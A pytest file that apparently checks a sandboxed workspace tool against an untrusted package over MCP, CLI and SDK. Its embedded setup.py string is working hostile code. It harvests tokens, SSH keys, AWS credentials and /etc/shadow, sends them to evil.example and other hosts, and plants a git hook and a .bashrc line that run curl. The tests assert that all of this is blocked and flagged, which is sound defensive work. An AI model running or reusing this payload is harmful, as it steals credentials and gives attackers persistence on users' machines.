"""Untrusted code: a package whose set-up script looks for secrets, phones home and digs in; it gets nothing, and all is seen."""

from pathlib import Path

import pytest
from tests.opened import outliving
from tests.use_cases.doors import DoorName, Refused, working

pytestmark = [outliving, pytest.mark.timeout(300), pytest.mark.usefixtures("environment", "home")]
_SECRET = "a-token-of-this-host-7f3a"
_SETUP = """
import os, pathlib, socket, stat, urllib.request

loot = {name: value for name, value in os.environ.items() if "TOKEN" in name or "SECRET" in name}
for place in ("~/.ssh/id_rsa", "~/.aws/credentials", "~/.netrc", "/etc/shadow", "%(home)s/.ssh/id_rsa", "%(home)s/token"):
    try:
        loot[place] = pathlib.Path(place).expanduser().read_text()
    except OSError as error:
        print("no", place, error.strerror)
print("LOOT", sorted(loot), [value for value in loot.values() if "7f3a" in value])
for host, port in (("evil.example", 443), ("203.0.113.5", 8080), ("169.254.169.254", 80), ("127.0.0.1", 22)):
    try:
        socket.create_connection((host, port), timeout=5).sendall(repr(loot).encode())
        socket_answer = "connected"
    except OSError as error:
        socket_answer = error.strerror or str(error)
    print("SEND", host, port, socket_answer)
hook = pathlib.Path(".git/hooks/post-checkout")
hook.parent.mkdir(parents=True, exist_ok=True)
hook.write_text("#!/bin/sh\\ncurl evil.example/$(whoami)\\n")
hook.chmod(0o755)
task = pathlib.Path(".vscode/tasks.json")
task.parent.mkdir(exist_ok=True)
task.write_text("{}")
pathlib.Path("~/.bashrc").expanduser().open("a").write("curl evil.example\\n")
"""


@pytest.mark.parametrize("policy", ["off", "egress"])
@pytest.mark.parametrize("door", ["mcp", "cli", "sdk"])
def test_untrusted_inspection(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, door: DoorName, policy: str
) -> None:
    secret = tmp_path / "token"
    secret.write_text(_SECRET)
    monkeypatch.setenv("HOST_TOKEN", _SECRET)
    package = tmp_path / "package"
    package.mkdir()
    (package / "setup.py").write_text(_SETUP.replace("%(home)s", str(tmp_path)))
    ws = {"workspace": "suspect"}
    allowed = {"network_policy": "egress", "allow_hosts": ["pypi.org"]} if policy == "egress" else {}
    with working(
        f"untrusted-inspection, {policy}", door, profile="workspace-full", host_root=package
    ) as call:
        call("workspace_create", name="suspect", seed_path=".", **allowed)
        call("workspace_file_read", **ws, path="setup.py")
        ran = call("workspace_exec", **ws, command="python3 setup.py install")
        assert _SECRET not in ran["stdout"] + ran["stderr"]
        assert "7f3a" not in ran["stdout"].partition("SEND")[0]

        summary = call("workspace_summary", **ws)
        tried = summary["connections"]
        assert (tried["allowed"], tried["failed"]) == (0, 0)
        places = set(tried["destinations"])
        assert {"203.0.113.5:8080", "169.254.169.254:80"} <= places
        assert any(place.startswith("evil.example") for place in places)
        looked_at = {found["path"] for found in summary["findings"]}
        assert {".vscode/tasks.json", ".git/hooks/post-checkout"} <= looked_at  # no diff shows the hook
        log = call("workspace_logs", **ws, kind="network")
        assert {event["outcome"] for event in log["events"]} == {"policy_denied"}
        with pytest.raises(Refused, match=r"tasks\.json"):
            call("workspace_export", **ws, output_path="out")
        assert not (package / "out").exists()
        call("workspace_delete", **ws)
    assert {path.name for path in package.iterdir()} == {"setup.py"}
